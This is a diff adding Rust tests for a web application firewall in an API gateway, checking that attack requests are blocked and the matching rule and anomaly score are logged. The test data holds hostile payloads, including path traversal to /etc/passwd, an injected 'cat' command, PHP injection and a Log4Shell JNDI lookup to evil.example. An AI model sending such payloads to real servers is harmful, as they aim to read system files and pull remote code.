@@ -236,6 +236,94 @@ fn c22_forms_of_many_parts_or_without_a_boundary_and_xml_with_entities_are_refus
     assert_eq!(origin.hits(), 0);
 }
 
+#[test]
+fn the_gateway_has_rules_of_its_own_and_says_which_one_matched_with_its_points() {
+    let origin = Origin::saying("ok");
+    let gateway = gateway(
+        &origin,
+        ", exclude = [{ rule = \"lfi\", id = 1101, at = [\"query:up\"] }]",
+    );
+    for (target, fields) in [
+        ("/a?f=../../x", vec![]),
+        ("/a?q=%3Bcat%20/etc/hostname", vec![]),
+        ("/.git/config", vec![]),
+        ("/a", vec![("user-agent", "sqlmap/1.7")]),
+        ("/a", vec![("x-api", "${jndi:ldap://evil.example/a}")]),
+        ("/a?q=%3C?php%20echo", vec![]),
+        ("/a?u=php://input", vec![]),
+    ] {
+        let refused = get(&gateway, target, &fields);
+        assert_eq!(
+            (refused.status, refused.error()),
+            (403, Some("WAF_FILTERED")),
+            "{target}"
+        );
+    }
+    assert_eq!(
+        post(&gateway, "application/json", br#"{"a":{"b":"../../x"}}"#).status,
+        403
+    );
+    assert_eq!(origin.hits(), 0);
+    assert_eq!(get(&gateway, "/a?up=../../x&q=hello", &[]).status, 200);
+    let records = gateway.wait_for_records(9);
+    assert_eq!(records[0]["waf"], "lfi at query:f (1101 +5)");
+    assert_eq!(records[3]["waf"], "scanner at header:user-agent (1601 +5)");
+    assert_eq!(records[7]["waf"], "lfi at body:a.b (1101 +5)");
+    assert_eq!(
+        gateway.metric("gatewright_waf_findings_total{route=\"all\",rule=\"scanner\",mode=\"block\"}"),
+        1.0
+    );
+}
+
+#[test]
+fn rules_are_read_from_files_and_folders_and_decide_by_their_points() {
+    let origin = Origin::saying("ok");
+    let folder = tempfile::tempdir().unwrap();
+    let rules = "SecRule ARGS \"@contains half\" \"id:7,phase:2,pass,setvar:'tx.anomaly_score_pl1=+3'\"\n\
+                 SecRule TX:anomaly_score_pl1 \"@ge 5\" \"id:8,phase:2,deny\"\n";
+    std::fs::write(folder.path().join("a.conf"), rules).unwrap();
+    let gateway = gateway(&origin, &format!(", rules = [{:?}]", folder.path()));
+    assert_eq!(get(&gateway, "/a?q=half&f=../../x", &[]).status, 200);
+    assert_eq!(get(&gateway, "/a?q=half&r=half", &[]).status, 403);
+    let records = gateway.wait_for_records(2);
+    assert_eq!(records[0]["waf"], "passed: rules at query:q (7 +3)");
+    assert_eq!(records[1]["waf"], "rules at query:q (7 +6)");
+}
+
+#[test]
+fn the_core_rule_set_is_run_as_it_is_published() {
+    let rules = std::path::Path::new("/usr/share/modsecurity-crs/rules");
+    if !rules.is_dir() {
+        println!(
+            "skipped: {} is not there; the package modsecurity-crs has it",
+            rules.display()
+        );
+        return;
+    }
+    let origin = Origin::saying("ok");
+    let keys = format!(", rules = [\"/etc/modsecurity/crs/crs-setup.conf\", {rules:?}], paranoia = 1");
+    let gateway = gateway(&origin, &keys);
+    let fields = [("user-agent", "curl/8.5.0"), ("accept", "*/*")];
+    for attack in [
+        "/a?q=../../../../etc/passwd",
+        "/a?q=%3Bcat+/etc/passwd",
+        "/a?q=%3C%3Fphp+phpinfo%28%29%3B",
+        "/a?q=$%7Bjndi:ldap://evil.example/a%7D",
+    ] {
+        assert_eq!(get(&gateway, attack, &fields).status, 403, "{attack}");
+    }
+    assert_eq!(get(&gateway, "/a?q=hello+world", &fields).status, 200);
+    let records = gateway.wait_for_records(5);
+    assert!(
+        records[0]["waf"]
+            .as_str()
+            .unwrap()
+            .contains("rules at query:q (930120 +5)"),
+        "{}",
+        records[0]["waf"]
+    );
+}
+
 /// A line of the collections as a value of a query: it is percent-encoded, more or less.
 fn in_query(line: &str) -> String {
     let is_escape = |at: usize| {
